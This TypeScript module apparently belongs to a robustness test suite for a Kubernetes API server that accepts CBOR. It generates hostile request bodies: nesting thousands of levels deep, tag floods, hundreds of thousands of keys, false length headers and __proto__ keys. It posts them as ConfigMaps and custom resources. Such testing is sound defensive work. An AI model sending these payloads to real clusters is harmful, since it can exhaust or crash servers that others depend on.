// Bodies that cost by their form, in CBOR: a server with the gate CBORServingAndStorage reads them.
import { type Attack, maps, range, raw, write } from './hostile-request.ts'

const cbor = 'application/cbor'
const widgets = '/apis/hostile.example.com/v1/namespaces/default/widgets'

const head = (type: number, length: number): Buffer => {
  const out = Buffer.from([(type << 5) | 26, 0, 0, 0, 0])
  out.writeUInt32BE(length, 1)
  return out
}
const text = (value: string): Buffer => Buffer.concat([head(2, value.length), Buffer.from(value)])
const list = (count: number, item: Buffer): Buffer =>
  Buffer.concat([head(4, count), Buffer.alloc(count * item.length, item)])
/** A map of pairs that are encoded already, each key before its value. */
const mapOf = (pairs: readonly Buffer[]): Buffer => Buffer.concat([head(5, pairs.length / 2), ...pairs])
const map = (...pairs: readonly Buffer[]): Buffer => mapOf(pairs)
const hex = (digits: string): Buffer => Buffer.from(digits, 'hex')
const one = hex('01')

/** A ConfigMap with anything for its data. */
const configMap = (data: Buffer): Buffer =>
  map(text('metadata'), map(text('name'), text('hostile-cbor')), text('data'), data)
/** A custom resource with anything for its spec. */
const widget = (spec: Buffer): Buffer =>
  map(
    ...[text('kind'), text('Widget'), text('apiVersion'), text('hostile.example.com/v1')],
    ...[text('metadata'), map(text('name'), text('hostile-cbor')), text('spec'), spec],
  )

const tags = (count: number, tag: string): Buffer => hex(`${tag.repeat(count)}01`)
const deep = (levels: number, open: string): Buffer => hex(`${open.repeat(levels)}01`)

/** What stands for the data of an object. */
const parts: Readonly<Record<string, () => Buffer>> = {
  '3,000 tags, 500 times': () => list(500, tags(3000, 'd8ff')),
  '3,000 tags that say how bytes are meant, 1,000 times': () => list(1000, tags(3000, 'd6')),
  '9,900 tags': () => tags(9900, 'd8ff'),
  '3,000 tags before a key': () => map(Buffer.concat([hex('d8ff'.repeat(3000)), text('a')]), one),
  'lists 9,900 deep': () => deep(9900, '81'),
  'maps 9,900 deep': () => deep(9900, 'a14161'),
  'lists without lengths 9,900 deep': () => hex(`${'9f'.repeat(9900)}${'ff'.repeat(9900)}`),
  'tags and lists 9,900 deep': () => deep(4950, 'd881'.concat('81')),
  'keys __proto__': () =>
    map(text('__proto__'), map(text('polluted'), one), text('constructor'), map(text('prototype'), one)),
  '100,000 equal keys': () => mapOf(range(100_000, () => [text('a'), text('b')]).flat()),
  '100,000 keys': () => mapOf(range(100_000, (i) => [text(`k${i}`), text('v')]).flat()),
  '200,000 numbers for keys': () => mapOf(range(200_000, (i) => [head(0, i), one]).flat()),
  '1,000,000 integers of eight bytes': () => hex(`9a00051615${'1bffffffffffffff00'.repeat(333_333)}`),
  '300,000 empty lists': () => list(300_000, hex('80')),
  '3,000,000 numbers': () => list(2_900_000, one),
  'a string of 100,000 chunks': () => hex(`5f${'4161'.repeat(100_000)}ff`),
  'text that is none, 500,000 times': () => list(500_000, hex('61ff')),
  ...Object.fromEntries(
    ['5b', '7b', '9b', 'bb'].flatMap((first) =>
      ['8000000000000000', '7fffffffffffffff', '000fffffffffffff'].map((length) => [
        `a length of ${first}${length}`,
        () => hex(first + length),
      ]),
    ),
  ),
}

const definition = {
  metadata: { name: 'widgets.hostile.example.com' },
  spec: {
    group: 'hostile.example.com',
    scope: 'Namespaced',
    names: { plural: 'widgets', singular: 'widget', kind: 'Widget', listKind: 'WidgetList' },
    versions: [
      {
        name: 'v1',
        served: true,
        storage: true,
        schema: { openAPIV3Schema: { type: 'object', 'x-kubernetes-preserve-unknown-fields': true } },
      },
    ],
  },
}

const define = write('POST', '/apis/apiextensions.k8s.io/v1/customresourcedefinitions', () => definition)

/** Bodies that are long, deep, full of tags or lie about their lengths. For a server with the gate CBORServingAndStorage. */
export const cborAttacks: readonly Attack[] = Object.entries(parts).map(([name, part]) => ({
  name: `CBOR: ${name}`,
  prepare: [define],
  requests: [
    raw('POST', maps, cbor, () => configMap(part())),
    raw('POST', `${maps}?fieldValidation=Strict`, cbor, () => part()),
    raw('PATCH', `${maps}/hostile-cbor?fieldManager=x`, 'application/apply-patch+cbor', () =>
      configMap(part()),
    ),
    raw('POST', `${widgets}?dryRun=All`, cbor, () => widget(part())),
    // What does not say its kind is shown in the error.
    raw('POST', widgets, cbor, () => map(text('spec'), part())),
  ],
}))
